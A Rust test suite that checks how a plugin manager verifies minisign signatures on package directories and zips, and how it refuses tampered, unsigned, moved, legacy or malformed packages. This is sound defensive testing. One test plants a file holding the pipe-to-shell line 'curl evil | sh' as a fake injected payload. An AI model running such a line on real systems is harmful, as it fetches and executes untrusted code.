//! Each refusal of a package signature, on directory and zip packages.

use std::path::PathBuf;

use ct_codecs::{Base64, Decoder, Encoder};

use super::*;

const WASM: &[u8] = b"\0asm\x01\0\0\0 not really a component";

fn manifest(name: &str, version: &str) -> String {
    format!(
        r#"{{"name":"{name}","version":"{version}","entry_point":"plugin.wasm","provided_capabilities":["a.b"]}}"#
    )
}

fn key() -> (SecretKey, PublicKey) {
    let (secret, public) = generate_keypair(None).expect("keypair");
    (
        SecretKey::parse(&secret, None).expect("secret"),
        PublicKey::parse(&public).expect("public"),
    )
}

/// An unsigned package directory `<tmp>/<name>` with a manifest, the
/// component and a data file.
fn package(tmp: &Path, name: &str, version: &str) -> PathBuf {
    let dir = tmp.join(format!("{name}-{version}"));
    std::fs::create_dir_all(dir.join("data")).expect("mkdir");
    std::fs::write(dir.join(MANIFEST_FILE), manifest(name, version)).expect("manifest");
    std::fs::write(dir.join("plugin.wasm"), WASM).expect("wasm");
    std::fs::write(dir.join("data/words.txt"), "alpha beta").expect("data");
    dir
}

/// A signed package and the key that trusts it.
fn signed() -> (tempfile::TempDir, PathBuf, SecretKey, PublicKey) {
    let tmp = tempfile::tempdir().expect("tempdir");
    let dir = package(tmp.path(), "text-stats", "1.2.0");
    let (secret, public) = key();
    sign_package(&dir, &secret).expect("signed");
    (tmp, dir, secret, public)
}

fn refused(path: &Path, trusted: &[PublicKey]) -> SignatureError {
    match verify_dir_or_zip(path, trusted).expect_err("refused") {
        VerifyPackageError::Signature(e) => e,
        VerifyPackageError::Package(e) => panic!("staging refused it: {e}"),
    }
}

/// Rewrites the signature file's lines through `edit`.
fn edit_signature(dir: &Path, edit: impl FnOnce(&mut Vec<String>)) {
    let path = dir.join(SIGNATURE_FILE);
    let text = std::fs::read_to_string(&path).expect("signature");
    let mut lines: Vec<String> = text.lines().map(str::to_owned).collect();
    edit(&mut lines);
    std::fs::write(&path, lines.join("\n") + "\n").expect("write signature");
}

#[test]
fn a_signed_directory_verifies_and_lists_every_file() {
    let (_tmp, dir, secret, public) = signed();
    let verified = verify_dir_or_zip(&dir, std::slice::from_ref(&public)).expect("verified");
    assert_eq!(
        verified,
        Verified {
            key_id: secret.key_id(),
            package: "text-stats@1.2.0".into(),
            trusted_comment: "selfup-package text-stats@1.2.0".into(),
            files: 2,
        }
    );
    let text = std::fs::read_to_string(dir.join(MANIFEST_FILE)).expect("manifest");
    let m = selfup_core::manifest::PluginManifest::from_json(text.as_bytes()).expect("parse");
    assert_eq!(m.files["plugin.wasm"], sha256_hex(WASM));
    assert_eq!(m.files["data/words.txt"], sha256_hex(b"alpha beta"));
    assert!(text.starts_with("{\n  \"name\": \"text-stats\""), "{text}");
    // Signing again replaces the signature and lists the same files.
    sign_package(&dir, &secret).expect("re-signed");
    verify_dir_or_zip(&dir, &[public]).expect("verified again");
}

#[test]
fn a_signed_zip_verifies_and_its_entries_are_in_a_fixed_order() {
    let (tmp, dir, secret, public) = signed();
    let zip_path = tmp.path().join("p.zip");
    let unsigned = tmp.path().join("unsigned.zip");
    write_zip(
        &unsigned,
        &[
            ("plugin.wasm", WASM),
            ("data/words.txt", b"alpha beta"),
            (MANIFEST_FILE, manifest("text-stats", "1.2.0").as_bytes()),
        ],
    )
    .expect("zip");
    let first = sign_zip(&unsigned, &zip_path, &secret).expect("signed zip");
    assert_eq!(first.files, 2);
    let verified = verify_dir_or_zip(&zip_path, std::slice::from_ref(&public)).expect("zip");
    assert_eq!(verified.key_id, secret.key_id());
    // The archive is closed before the in-place re-signing below: Windows
    // cannot rename a new file over one that is still open.
    let names: Vec<String> = zip::ZipArchive::new(File::open(&zip_path).expect("open"))
        .expect("zip")
        .file_names_raw()
        .map(|n| String::from_utf8_lossy(n).into_owned())
        .collect();
    assert_eq!(
        names,
        [
            MANIFEST_FILE,
            SIGNATURE_FILE,
            "data/words.txt",
            "plugin.wasm"
        ]
    );
    // Re-signing a signed zip in place gives the same manifest.
    let again = sign_zip(&zip_path, &zip_path, &secret).expect("in place");
    assert_eq!(again.manifest_json, first.manifest_json);
    verify_dir_or_zip(&zip_path, &[public]).expect("still verifies");
    drop(dir);
}

#[test]
fn an_unsigned_package_is_refused_by_name() {
    let tmp = tempfile::tempdir().expect("tempdir");
    let dir = package(tmp.path(), "text-stats", "1.2.0");
    let (_, public) = key();
    let err = refused(&dir, &[public]);
    assert!(matches!(err, SignatureError::Unsigned { .. }), "{err:?}");
    assert_eq!(
        err.to_string(),
        "text-stats@1.2.0 is unsigned: it has no manifest.json.minisig; sign it with a key this selfup trusts (`selfup plugin sign`), or install only packages from a publisher whose key is in security.trusted_keys"
    );
}

#[test]
fn a_key_that_is_not_trusted_is_named_with_the_trusted_ones() {
    let (_tmp, dir, secret, _) = signed();
    let (_, other) = key();
    let err = refused(&dir, std::slice::from_ref(&other));
    assert!(
        matches!(err, SignatureError::UntrustedKey { .. }),
        "{err:?}"
    );
    assert_eq!(
        err.to_string(),
        format!(
            "text-stats@1.2.0 is signed by key {}, which is not trusted (trusted: {}); add that public key to security.trusted_keys only if you trust its owner, or get the package signed by a trusted key",
            secret.key_id(),
            other.key_id()
        )
    );
    let err = refused(&dir, &[]);
    assert!(
        err.to_string()
            .contains("(trusted: none — security.trusted_keys is empty)"),
        "{err}"
    );
}

#[test]
fn a_tampered_manifest_is_refused() {
    let (_tmp, dir, secret, public) = signed();
    let path = dir.join(MANIFEST_FILE);
    let text = std::fs::read_to_string(&path).expect("manifest");
    let tampered = text.replace("\"max_memory_mb\": 512", "\"max_memory_mb\": 4096");
    assert_ne!(text, tampered);
    std::fs::write(&path, tampered).expect("write");
    let err = refused(&dir, &[public]);
    assert!(
        matches!(err, SignatureError::ManifestTampered { .. }),
        "{err:?}"
    );
    assert_eq!(
        err.to_string(),
        format!(
            "text-stats@1.2.0: the signature by key {} does not match manifest.json: the manifest was changed after signing; do not install it — re-sign it if you changed it yourself",
            secret.key_id()
        )
    );
}

#[test]
fn a_tampered_trusted_comment_is_refused() {
    let (_tmp, dir, secret, public) = signed();
    edit_signature(&dir, |lines| {
        lines[2] = "trusted comment: selfup-package text-stats@9.9.9".into();
    });
    let err = refused(&dir, &[public]);
    assert!(
        matches!(err, SignatureError::CommentTampered { .. }),
        "{err:?}"
    );
    assert_eq!(
        err.to_string(),
        format!(
            "text-stats@1.2.0: the trusted comment of manifest.json.minisig was altered after signing (its global signature by key {} does not verify); do not install it — fetch it again or re-sign it",
            secret.key_id()
        )
    );
}

#[test]
fn a_tampered_component_is_refused() {
    let (_tmp, dir, _, public) = signed();
    std::fs::write(dir.join("plugin.wasm"), b"\0asm evil").expect("write");
    let err = refused(&dir, &[public]);
    assert!(matches!(err, SignatureError::FileAltered { .. }), "{err:?}");
    assert_eq!(
        err.to_string(),
        format!(
            "text-stats@1.2.0: plugin.wasm was changed after signing (SHA-256 {}, the signed manifest lists {}); do not install it — fetch it again or re-sign it",
            sha256_hex(b"\0asm evil"),
            sha256_hex(WASM)
        )
    );
}

#[test]
fn an_extra_file_is_refused() {
    let (_tmp, dir, _, public) = signed();
    std::fs::write(dir.join("data/payload.sh"), "curl evil | sh").expect("write");
    let err = refused(&dir, &[public]);
    assert!(
        matches!(err, SignatureError::FileUnlisted { .. }),
        "{err:?}"
    );
    assert_eq!(
        err.to_string(),
        "text-stats@1.2.0: data/payload.sh is in the package but not listed in the signed manifest's files (added after signing); do not install it — remove the file, or re-sign the package if it belongs there"
    );
}

#[test]
fn a_missing_file_is_refused() {
    let (_tmp, dir, _, public) = signed();
    std::fs::remove_file(dir.join("data/words.txt")).expect("remove");
    let err = refused(&dir, &[public]);
    assert!(matches!(err, SignatureError::FileMissing { .. }), "{err:?}");
    assert_eq!(
        err.to_string(),
        "text-stats@1.2.0: data/words.txt is listed in the signed manifest but missing from the package; do not install it — fetch the complete package again"
    );
}

#[test]
fn a_signature_moved_from_another_package_is_refused() {
    let tmp = tempfile::tempdir().expect("tempdir");
    let (secret, public) = key();
    // The whole signature of another package over its own manifest.
    let other = package(tmp.path(), "text-summarize", "2.0.0");
    sign_package(&other, &secret).expect("signed");
    let dir = package(tmp.path(), "text-stats", "1.2.0");
    sign_package(&dir, &secret).expect("signed");
    std::fs::copy(other.join(SIGNATURE_FILE), dir.join(SIGNATURE_FILE)).expect("copy");
    let err = refused(&dir, std::slice::from_ref(&public));
    assert!(
        matches!(err, SignatureError::ManifestTampered { .. }),
        "{err:?}"
    );
    // A valid signature over these very bytes, but made for another
    // package or version: the trusted comment gives it away.
    for comment in [
        "selfup-package text-summarize@2.0.0",
        "selfup-package text-stats@1.1.0",
    ] {
        let bytes = std::fs::read(dir.join(MANIFEST_FILE)).expect("manifest");
        let signature = sign_bytes(&bytes, &secret, comment).expect("sign");
        std::fs::write(dir.join(SIGNATURE_FILE), signature).expect("write");
        let err = refused(&dir, std::slice::from_ref(&public));
        assert!(
            matches!(err, SignatureError::WrongPackage { .. }),
            "{err:?}"
        );
        assert_eq!(
            err.to_string(),
            format!(
                "text-stats@1.2.0: the signature was made for {comment:?}, not \"selfup-package text-stats@1.2.0\": it belongs to another package or version and was moved here; do not install it — sign this package itself"
            )
        );
    }
}

#[test]
fn a_legacy_signature_is_refused() {
    let (_tmp, dir, secret, public) = signed();
    edit_signature(&dir, |lines| {
        let mut raw = Base64::decode_to_vec(&lines[1], None).expect("base64");
        assert_eq!(&raw[..2], b"ED");
        raw[1] = b'd';
        lines[1] = Base64::encode_to_string(&raw).expect("base64");
    });
    let err = refused(&dir, &[public]);
    assert!(matches!(err, SignatureError::Legacy { .. }), "{err:?}");
    assert_eq!(
        err.to_string(),
        format!(
            "text-stats@1.2.0: manifest.json.minisig is a legacy minisign signature (algorithm \"Ed\", key {}); selfup accepts only prehashed signatures (\"ED\") — re-sign with `selfup plugin sign` or `minisign -S` without -l",
            secret.key_id()
        )
    );
}

#[test]
fn garbage_signatures_are_refused_without_panicking() {
    let (_tmp, dir, _, public) = signed();
    let good = std::fs::read_to_string(dir.join(SIGNATURE_FILE)).expect("signature");
    let lines: Vec<&str> = good.lines().collect();
    let cases: Vec<(String, &str)> = vec![
        ("hello\n".into(), "it ends before the signature line"),
        (String::new(), "it ends before the untrusted comment line"),
        (
            format!("{}\n{}\n{}\n", lines[0], lines[1], lines[2]),
            "it ends before the global signature line",
        ),
        (
            format!("{}\n{}\n{}\nAAAA\n", lines[0], lines[1], lines[2]),
            "its global signature decodes to 3 bytes, not 64",
        ),
        (
            format!("{}\n!!!\n{}\n{}\n", lines[0], lines[2], lines[3]),
            "its signature line is not base64",
        ),
        (
            format!("{}\nRUQ=\n{}\n{}\n", lines[0], lines[2], lines[3]),
            "its signature line decodes to 2 bytes, not 74",
        ),
        (
            format!("comment\n{}\n{}\n{}\n", lines[1], lines[2], lines[3]),
            "its first line does not start with \"untrusted comment:\"",
        ),
        (
            format!(
                "{}\n{}\n{}\n{}\nmore\n",
                lines[0], lines[1], lines[2], lines[3]
            ),
            "it has text after the global signature line",
        ),
        (
            "x".repeat(5000),
            "it is 4097 bytes; a signature file is at most 4096",
        ),
    ];
    for (text, detail) in cases {
        std::fs::write(dir.join(SIGNATURE_FILE), &text).expect("write");
        let err = refused(&dir, std::slice::from_ref(&public));
        assert!(matches!(err, SignatureError::Malformed { .. }), "{err:?}");
        assert_eq!(
            err.to_string(),
            format!(
                "text-stats@1.2.0: manifest.json.minisig is not a valid minisign signature ({detail}); the package is damaged or was tampered with — fetch it again or re-sign it"
            )
        );
    }
    std::fs::write(dir.join(SIGNATURE_FILE), [0xff, 0xfe, 0]).expect("write");
    let err = refused(&dir, &[public]);
    assert!(err.to_string().contains("(it is not UTF-8 text)"), "{err}");
}

#[test]
fn a_tampered_zip_is_refused() {
    let (tmp, dir, secret, public) = signed();
    let good = tmp.path().join("good.zip");
    let unsigned = tmp.path().join("unsigned.zip");
    write_zip(
        &unsigned,
        &[
            (MANIFEST_FILE, manifest("text-stats", "1.2.0").as_bytes()),
            ("plugin.wasm", WASM),
        ],
    )
    .expect("zip");
    let good_sig = sign_zip(&unsigned, &good, &secret).expect("signed");
    let bad = tmp.path().join("bad.zip");
    write_zip(
        &bad,
        &[
            (MANIFEST_FILE, &good_sig.manifest_json),
            (SIGNATURE_FILE, &good_sig.signature),
            ("plugin.wasm", b"\0asm evil"),
        ],
    )
    .expect("zip");
    let err = refused(&bad, std::slice::from_ref(&public));
    assert!(matches!(err, SignatureError::FileAltered { .. }), "{err:?}");
    let err = refused(&unsigned, &[public]);
    assert!(matches!(err, SignatureError::Unsigned { .. }), "{err:?}");
    drop(dir);
}

#[test]
fn staging_errors_come_before_signature_checks() {
    let (_, public) = key();
    let err =
        verify_dir_or_zip(Path::new("/nonexistent/package.zip"), &[public]).expect_err("missing");
    assert!(matches!(err, VerifyPackageError::Package(_)), "{err:?}");
}
